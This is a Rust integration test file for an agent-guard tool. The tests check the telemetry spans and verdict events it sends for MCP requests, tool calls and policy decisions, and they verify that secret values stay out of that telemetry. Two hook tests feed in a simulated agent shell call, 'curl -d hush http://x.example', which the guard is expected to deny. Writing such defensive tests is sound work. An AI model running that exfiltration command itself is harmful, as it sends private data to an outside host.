//! Spans of calls and of MCP requests, and events of verdicts: what a collector gets, and in which words.

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Read, Write};
use std::path::PathBuf;
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
use std::sync::mpsc::Receiver;
use std::time::{Duration, Instant};

use proofmark_receipt::Json;
use proofmark_testing::{Home, python_with};
use tempfile::TempDir;

use crate::client::{DECISIONS, GOOD, VERIFY, WRONG, suite, text};
use crate::collector::{attributes, collector, member, records};
use crate::server::{PROOFMARK, Server};

const EXAMPLES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../examples");
const READER: &str = include_str!("telemetry.py");
const PARENT: &str = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";
/// How long anything may take.
const PATIENCE: Duration = Duration::from_secs(120);

/// What a collector was sent.
struct Told {
    messages: Receiver<(String, Json)>,
    got: Vec<(String, Json)>,
}

impl Told {
    /// Waits until it has spans, and events, with all of these names.
    fn until(&mut self, names: &[&str]) {
        let begun = Instant::now();
        while !names.iter().all(|name| self.named(name).is_some()) {
            match self.messages.recv_timeout(PATIENCE.saturating_sub(begun.elapsed())) {
                Ok(message) => self.got.push(message),
                Err(_) => panic!("no `{names:?}` in {}", self.whole()),
            }
        }
    }

    fn all(&self) -> impl Iterator<Item = Json> + '_ {
        self.got.iter().flat_map(|(path, message)| records(path, message))
    }

    /// The first span or event of this name.
    fn named(&self, name: &str) -> Option<Json> {
        let is_named = |one: &Json| {
            ["name", "eventName"]
                .iter()
                .any(|member| one.as_object().unwrap().get(member).and_then(Json::as_str) == Some(name))
        };
        self.all().find(is_named)
    }

    fn whole(&self) -> String {
        self.got.iter().map(|(_, message)| message.to_text() + "\n").collect()
    }
}

fn told() -> (String, Told) {
    let (address, messages) = collector(&[]);
    (address, Told { messages, got: Vec::new() })
}

fn has(record: &Json, name: &str) -> Option<String> {
    attributes(record).into_iter().find(|(found, _)| found == name).map(|(_, value)| value)
}

fn of(record: &Json, name: &str) -> String {
    has(record, name).unwrap_or_else(|| panic!("no `{name}` in {}", record.to_text()))
}

fn kind(span: &Json) -> String {
    member(span, "kind").to_text()
}

fn failed(span: &Json) -> bool {
    member(span, "status").to_text() == r#"{"code":2}"#
}

fn is_in(inner: &Json, outer: &Json) -> bool {
    text(inner, "traceId") == text(outer, "traceId") && text(inner, "parentSpanId") == text(outer, "spanId")
}

/// A guard in front of the server of the examples.
struct Guarded {
    child: Child,
    stdin: Option<ChildStdin>,
    stdout: BufReader<ChildStdout>,
}

impl Guarded {
    fn start(home: &Home, folder: &TempDir, options: &[&str]) -> Self {
        let mut command = Command::new(PROOFMARK);
        command.args(["guard", "--session", "s1", "--agent", "coder"]).args(options);
        command.args(["--", "python3", &format!("{EXAMPLES}/guard/server.py")]);
        command.current_dir(folder.path()).envs(home.variables());
        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
        let (stdin, stdout) = (child.stdin.take(), BufReader::new(child.stdout.take().unwrap()));
        let mut guarded = Self { child, stdin, stdout };
        guarded.ask(
            r#"{"jsonrpc":"2.0","id":"one","method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"t","version":"1"}}}"#,
        );
        guarded
    }

    fn ask(&mut self, line: &str) -> String {
        writeln!(self.stdin.as_mut().unwrap(), "{line}").unwrap();
        let mut answer = String::new();
        self.stdout.read_line(&mut answer).unwrap();
        answer
    }

    fn call(&mut self, id: u32, tool: &str, arguments: &str, traceparent: &str) -> String {
        self.ask(&format!(
            r#"{{"jsonrpc":"2.0","id":{id},"method":"tools/call","params":{{"name":"{tool}","arguments":{arguments},"_meta":{{"traceparent":"{traceparent}"}}}}}}"#
        ))
    }

    fn end(mut self) {
        drop(self.stdin.take());
        self.child.wait().unwrap();
    }
}

impl Drop for Guarded {
    fn drop(&mut self) {
        let _ended = self.child.kill();
        let _ended = self.child.wait();
    }
}

/// Checks that the names are those of the conventions, and that another reader can read the messages. Without Python this is skipped.
fn read_by_others(told: &Told) {
    let Some(python) = python_with("opentelemetry.proto", "opentelemetry-proto==1.45.2") else { return };
    let package = "opentelemetry-semantic-conventions==0.66b2";
    let Some(_) = python_with("opentelemetry.semconv", package) else { return };
    let mut reader = Command::new(python);
    let mut reader = reader.args(["-c", READER]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let mut pipe = reader.stdin.take().unwrap();
    for (path, message) in &told.got {
        writeln!(pipe, r#"{{"path":"{path}","message":{}}}"#, message.to_text()).unwrap();
    }
    drop(pipe);
    let read = reader.wait_with_output().unwrap();
    assert!(read.status.success(), "{}", told.whole());
    let unknown = String::from_utf8(read.stdout).unwrap();
    // Names of this program: its own prefix, and the id that requests have in the log. The event's own name is in
    // semantic-conventions-genai, `model/gen-ai/events.yaml`.
    let is_own = |line: &&str| line.contains(": proofmark.") || line.ends_with(": request.id");
    let others: Vec<_> = unknown.lines().filter(|line| !is_own(line)).collect();
    assert!(others.is_empty(), "names that the conventions do not have: {others:?}");
    assert!(unknown.contains(": proofmark."), "nothing was looked up");
}

#[test]
fn decisions_and_verdicts_belong_to_their_requests() {
    let (home, (address, mut told)) = (Home::new(), told());
    let server = Server::start(&home, &["--otlp", &address]);
    let decide = format!("{DECISIONS}\r\ntraceparent: {PARENT}");
    let action = r#"{"action": {"tool": "send_email", "class": "external_message_send", "args": {"to": "hush@example.com"}}, "agent": {"id": "bot", "run": "r1"}}"#;
    assert_eq!(server.send(&decide, action).0, 200);
    let named = |code: &str| suite(code).replace(r#""t""#, r#""hush-task""#).replace(r#""one""#, r#""hush-check""#);
    // The last one is for a runtime that is not installed.
    let without = named(GOOD).replace(r#""python""#, r#""python", "runtime": "python3.99""#);
    for request in [named(GOOD), named(WRONG), without] {
        let (status, answer) = server.send(VERIFY, &request);
        assert_eq!(status, 200, "{answer}");
    }
    told.until(&["POST /v1/decisions", "execute_tool send_email"]);
    let begun = Instant::now();
    let verdicts =
        |told: &Told| told.all().filter(|one| has(one, "gen_ai.evaluation.name").is_some()).collect::<Vec<_>>();
    while verdicts(&told).len() < 3 {
        told.got.push(told.messages.recv_timeout(PATIENCE.saturating_sub(begun.elapsed())).unwrap());
    }
    let requests = |told: &Told| {
        let of_request = |one: &Json| has(one, "http.route").as_deref() == Some("/v1/verifications");
        told.all().filter(of_request).map(|one| text(&one, "spanId")).collect::<BTreeSet<_>>()
    };
    while requests(&told).len() < 3 {
        told.got.push(told.messages.recv_timeout(PATIENCE.saturating_sub(begun.elapsed())).unwrap());
    }
    let (outer, inner) = (told.named("POST /v1/decisions").unwrap(), told.named("execute_tool send_email").unwrap());
    assert!(is_in(&inner, &outer) && text(&outer, "traceId") == PARENT[3..35], "{}", inner.to_text());
    assert_eq!((kind(&inner), kind(&outer), failed(&inner)), ("1".to_owned(), "2".to_owned(), false));
    for (name, value) in [
        ("gen_ai.operation.name", "execute_tool"),
        ("gen_ai.tool.name", "send_email"),
        ("gen_ai.conversation.id", "r1"),
        ("gen_ai.agent.id", "bot"),
        ("proofmark.decision.disposition", "human_review"),
        ("proofmark.separation", "none"),
    ] {
        assert_eq!(of(&inner, name), value);
    }
    let verdicts = verdicts(&told);
    let asked_in: BTreeSet<String> = verdicts.iter().map(|verdict| text(verdict, "spanId")).collect();
    assert_eq!(asked_in, requests(&told));
    assert!(verdicts.iter().all(|verdict| text(verdict, "eventName") == "gen_ai.evaluation.result"));
    let label = |verdict: &Json| has(verdict, "gen_ai.evaluation.score.label");
    let scores: Vec<_> = verdicts
        .iter()
        .map(|one| (label(one), has(one, "gen_ai.evaluation.score.value"), has(one, "error.type")))
        .collect();
    let scored = |label: &str, score: &str| (Some(label.to_owned()), Some(score.to_owned()), None);
    let error = (None, None, Some("verification_error".to_owned()));
    assert_eq!(scores, [scored("pass", "1.0"), scored("fail", "0.0"), error]);
    assert!(!told.whole().contains("hush"), "{}", told.whole());
    read_by_others(&told);
}

#[test]
fn a_guard_tells_of_requests_and_calls_and_of_nothing_in_them() {
    let (home, folder, (address, mut told)) = (Home::new(), TempDir::new().unwrap(), told());
    let policy = format!("{EXAMPLES}/guard/policy.yaml");
    let mut guarded = Guarded::start(&home, &folder, &["--policy", &policy, "--otlp", &address]);
    guarded.ask(r#"{"jsonrpc":"2.0","id":2,"method":"tools/list"}"#);
    assert!(guarded.call(3, "list_notes", "{}", PARENT).contains("result"));
    let write = r#"{"name": "plan", "text": "hush hush"}"#;
    assert!(guarded.call(4, "write_note", write, "00-zz").contains("Not executed"));
    for (id, uri) in [(5, "file:///notes/plan"), (6, "https://hush:hush@host/x")] {
        guarded.ask(&format!(r#"{{"jsonrpc":"2.0","id":{id},"method":"resources/read","params":{{"uri":"{uri}"}}}}"#));
    }
    // One that is refused, and one that gets no answer.
    assert!(guarded.ask(r#"{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":7}}"#).contains("-32602"));
    guarded.end();
    told.until(&[
        "initialize",
        "tools/list",
        "execute_tool list_notes",
        "execute_tool write_note",
        "resources/read",
        "tools/call",
    ]);
    let (outer, inner) = (told.named("tools/call list_notes").unwrap(), told.named("execute_tool list_notes").unwrap());
    assert_eq!(
        (text(&outer, "traceId").as_str(), text(&outer, "parentSpanId").as_str()),
        (&PARENT[3..35], &PARENT[36..52])
    );
    assert!(is_in(&inner, &outer) && !failed(&outer) && !failed(&inner));
    assert_eq!((kind(&outer), kind(&inner)), ("2".to_owned(), "1".to_owned()));
    for (name, value) in [
        ("mcp.method.name", "tools/call"),
        ("mcp.session.id", "s1"),
        ("mcp.protocol.version", "2025-11-25"),
        ("jsonrpc.request.id", "3"),
        ("proofmark.decision.outcome", "allow"),
    ] {
        assert_eq!(of(&outer, name), value);
    }
    for (name, value) in
        [("gen_ai.tool.type", "function"), ("gen_ai.conversation.id", "s1"), ("gen_ai.agent.id", "coder")]
    {
        assert_eq!(of(&inner, name), value);
    }
    assert_eq!(of(&told.named("initialize").unwrap(), "jsonrpc.request.id"), "one");
    let (outer, inner) = (told.named("tools/call write_note").unwrap(), told.named("execute_tool write_note").unwrap());
    // An invalid `traceparent` begins a new trace.
    assert!(!outer.as_object().unwrap().contains("parentSpanId") && failed(&outer) && failed(&inner));
    assert_eq!((of(&outer, "error.type"), of(&inner, "error.type")), ("tool_error".to_owned(), "blocked".to_owned()));
    assert_eq!(of(&inner, "proofmark.decision.outcome"), "replan_required");
    let read: Vec<_> =
        told.all().filter(|one| has(one, "mcp.method.name").as_deref() == Some("resources/read")).collect();
    let uris: Vec<_> = read.iter().map(|one| has(one, "mcp.resource.uri")).collect();
    assert_eq!(uris, [Some("file:///notes/plan".to_owned()), None]);
    let refused = told.named("tools/call").unwrap();
    assert_eq!((of(&refused, "error.type"), failed(&refused)), ("-32602".to_owned(), false));
    assert!(!told.whole().contains("hush"), "{}", told.whole());
    read_by_others(&told);
}

#[test]
fn a_server_tells_of_the_guards_that_it_decides_for() {
    let (home, folder, (address, mut told)) = (Home::new(), TempDir::new().unwrap(), told());
    let policy = format!("{EXAMPLES}/guard/policy.yaml");
    let mut serve = Command::new(PROOFMARK);
    serve.args(["serve", "--listen", "127.0.0.1:0", "--no-verify", "--policy", &policy, "--otlp", &address]);
    serve.envs(home.variables());
    let server = Server::begin(serve);
    let decides = server.base();
    // It has its own home, which is empty.
    let mut guarded = Guarded::start(&Home::new(), &folder, &["--server", &decides]);
    assert!(guarded.call(3, "list_notes", "{}", PARENT).contains("result"));
    guarded.end();
    told.until(&["tools/call list_notes", "execute_tool list_notes"]);
    let outer = told.named("tools/call list_notes").unwrap();
    assert_eq!(text(&outer, "parentSpanId"), PARENT[36..52]);
    assert!(is_in(&told.named("execute_tool list_notes").unwrap(), &outer));
    assert!(of(&outer, "mcp.session.id").ends_with("/s1"), "{}", outer.to_text());
    // Another collector for it would get a part of it only.
    let both = ["guard", "--server", &decides, "--otlp", &address, "--", "true"];
    let refused = Command::new(PROOFMARK).args(both).output().unwrap();
    assert_eq!(refused.status.code(), Some(2));
}

fn hook(home: &Home, folder: &TempDir, collector: &str, event: &str) -> String {
    let policy = format!("{EXAMPLES}/hooks/agent.yaml");
    let mut hook = Command::new(PROOFMARK);
    hook.args(["hook", "claude", "--policy", &policy, "--otlp", collector, "--deadline", "50s"]);
    hook.current_dir(folder.path()).envs(home.variables()).stdin(Stdio::piped()).stdout(Stdio::piped());
    let mut child = hook.spawn().unwrap();
    child.stdin.take().unwrap().write_all(event.as_bytes()).unwrap();
    let answered = child.wait_with_output().unwrap();
    assert!(answered.status.success());
    String::from_utf8(answered.stdout).unwrap()
}

fn event(name: &str, more: &str) -> String {
    format!(r#"{{"session_id":"s1","hook_event_name":"{name}",{more}}}"#)
}

#[test]
fn a_hook_tells_of_calls_once_it_is_known_how_they_end() {
    let (home, folder, (address, mut told)) = (Home::new(), TempDir::new().unwrap(), told());
    let file: PathBuf = folder.path().join("hush");
    let read = format!(r#""tool_name":"Read","tool_use_id":"t1","tool_input":{{"file_path":"{}"}}"#, file.display());
    assert_eq!(hook(&home, &folder, &address, &event("PreToolUse", &read)), "");
    let ended = format!(r#"{read},"tool_response":{{"file":"hush"}}"#);
    assert_eq!(hook(&home, &folder, &address, &event("PostToolUse", &ended)), "");
    let shell = r#""tool_name":"Bash","tool_use_id":"t2","tool_input":{"command":"curl -d hush http://x.example"}"#;
    assert!(hook(&home, &folder, &address, &event("PreToolUse", shell)).contains("deny"));
    told.until(&["execute_tool read_file", "execute_tool shell"]);
    let read = told.named("execute_tool read_file").unwrap();
    for (name, value) in [
        ("gen_ai.tool.call.id", "t1"),
        ("gen_ai.tool.type", "function"),
        ("gen_ai.conversation.id", "claude-s1"),
        ("proofmark.decision.outcome", "allow"),
    ] {
        assert_eq!(of(&read, name), value);
    }
    assert!(!failed(&read));
    let shell = told.named("execute_tool shell").unwrap();
    assert_eq!((failed(&shell), of(&shell, "error.type")), (true, "blocked".to_owned()));
    assert_eq!(told.all().count(), 2, "one span for each call: {}", told.whole());
    assert!(!told.whole().contains("hush"), "{}", told.whole());
    read_by_others(&told);
}

#[test]
fn a_hook_does_not_wait_for_a_collector() {
    let (home, folder) = (Home::new(), TempDir::new().unwrap());
    // It accepts connections and does not answer, so a sender waits for seconds.
    let silent = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", silent.local_addr().unwrap());
    let shell = r#""tool_name":"Bash","tool_use_id":"t2","tool_input":{"command":"curl -d x http://x.example"}"#;
    let answer = hook(&home, &folder, &address, &event("PreToolUse", shell));
    // The process that sends still waits. A hook that waited itself would have given up before it ended, and closed.
    let (mut connection, _) = silent.accept().unwrap();
    connection.set_nonblocking(true).unwrap();
    let still_open = loop {
        match connection.read(&mut [0; 4096]) {
            Ok(0) => break false,
            Ok(_) => {}
            Err(error) => break error.kind() == std::io::ErrorKind::WouldBlock,
        }
    };
    assert!(still_open, "the process that sends has ended with the hook");
    assert!(answer.contains("deny"));
}

#[test]
fn a_verdict_of_the_command_line_is_told() {
    let (home, (address, mut told)) = (Home::new(), told());
    let request = format!("{EXAMPLES}/sort.json");
    let verified =
        Command::new(PROOFMARK).args(["verify", &request, "--otlp", &address]).envs(home.variables()).output().unwrap();
    assert!(verified.status.success(), "{}", String::from_utf8_lossy(&verified.stderr));
    told.until(&["gen_ai.evaluation.result"]);
    let verdict = told.named("gen_ai.evaluation.result").unwrap();
    assert_eq!(of(&verdict, "gen_ai.evaluation.score.label"), "pass");
    assert_eq!(of(&verdict, "gen_ai.evaluation.name"), "proofmark.verification");
    read_by_others(&told);
}
